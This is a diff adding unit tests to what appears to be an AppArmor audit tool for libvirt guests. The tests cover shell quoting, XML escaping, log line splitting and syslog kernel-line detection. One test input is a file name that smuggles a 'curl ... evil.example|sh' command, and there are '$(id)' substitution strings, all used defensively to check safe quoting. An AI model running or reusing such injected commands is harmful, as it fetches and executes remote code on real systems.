@@ -10,7 +10,10 @@ import { visible } from "../../src/audit/display.js";
 import { covers } from "../../src/audit/map.js";
 import { guestUuidOf, parseAuditLine, permsOfMask } from "../../src/audit/parse.js";
 import { parseSince } from "../../src/audit/since.js";
-import { journalMessage } from "../../src/audit/sources.js";
+import { isSyslogKernelDecision, journalMessage } from "../../src/audit/sources.js";
+import { LineSplitter } from "../../src/audit/lines.js";
+import { commandSafe, shellWord, xmlAttr } from "../../src/audit/quote.js";
+import { spawnSync } from "node:child_process";
 
 // A real line (test/fixtures/denials/helper-boot1.dmesg.txt).
 const REAL =
@@ -150,4 +153,47 @@ describe("hostile names (property, fast-check: the hostile suite's fixed seed, t
       );
     });
   }
+});
+
+describe("printing guest-chosen text (review19 F3)", () => {
+  it("shellWord: /bin/sh reads back exactly the text, whatever printable ASCII it holds (property, fixed seed)", () => {
+    const texts = fc.sample(fc.string({ unit: fc.integer({ min: 0x20, max: 0x7e }).map((c) => String.fromCharCode(c)), maxLength: 40 }), { seed: FIXED_SEED, numRuns: 60 });
+    texts.push("/var/lib/libvirt/images/x;curl${IFS}-s${IFS}evil.example|sh;#", "it's", "'", "$(id)`id`\\");
+    const script = texts.map((t) => `printf '%s\\0' ${shellWord(t)}`).join("; ");
+    const out = spawnSync("/bin/sh", ["-c", script], { encoding: "latin1" });
+    expect(out.status).toBe(0);
+    expect(out.stdout.split("\0").slice(0, -1)).toEqual(texts);
+  });
+
+  it("commandSafe: plain path characters only; shell, glob, blank, quote, escape characters are not", () => {
+    expect(commandSafe("/var/lib/libvirt/images/lab-a_1.2+x,y:z@%=.qcow2")).toBe(true);
+    for (const c of [";", "|", "&", "$", "`", "(", ")", "{", "}", "<", ">", "#", "*", "?", "[", "]", "^", "!", "~", "'", '"', "\\", " ", "\t"]) expect(commandSafe(`/a${c}b`)).toBe(false);
+    expect(commandSafe("")).toBe(false);
+  });
+
+  it("xmlAttr: & < > \" ' as entities", () => {
+    expect(xmlAttr(`a&b<c>d"e'f`)).toBe("a&amp;b&lt;c&gt;d&quot;e&apos;f");
+  });
+});
+
+describe("lines of logs (review19 F4, F9)", () => {
+  it("LineSplitter: lines across chunks, CRLF, a last line without newline; a line over the limit dropped whole, the next one kept", () => {
+    const got: string[] = [];
+    const s = new LineSplitter((l) => got.push(l), 10);
+    for (const chunk of ["ab", "c\nde\r\nf", "", "\n0123456789", "X", "YZ", "\nok\nlast"]) s.push(chunk);
+    s.end();
+    expect(got).toEqual(["abc", "de", "f", "ok", "last"]);
+  });
+
+  it("isSyslogKernelDecision: the kernel's tag and audit format only", () => {
+    const k = 'audit: type=1400 audit(1796465974.904:20): apparmor="DENIED" operation="open" profile="p" name="/x"';
+    expect(isSyslogKernelDecision(`Dec  5 10:30:00 lab kernel: [   72.783329] ${k}`)).toBe(true);
+    expect(isSyslogKernelDecision(`Dec 15 10:30:00 lab kernel: ${k}`)).toBe(true);
+    expect(isSyslogKernelDecision(`2026-12-05T10:30:00.123456+01:00 lab kernel: ${k}`)).toBe(true);
+    expect(isSyslogKernelDecision(`<4>1 2026-12-05T10:30:00Z lab kernel - - - ${k}`)).toBe(true);
+    expect(isSyslogKernelDecision(`Dec  5 10:30:00 lab alice: ${k}`)).toBe(false);
+    expect(isSyslogKernelDecision(`Dec  5 10:30:00 lab kernel-x: ${k}`)).toBe(false);
+    expect(isSyslogKernelDecision(`Dec  5 10:30:00 lab kernel: x ${k}`)).toBe(false);
+    expect(isSyslogKernelDecision(`Dec  5 10:30:00 lab kernel: ${k.replace('apparmor="DENIED"', 'apparmor="STATUS"')}`)).toBe(false);
+  });
 });
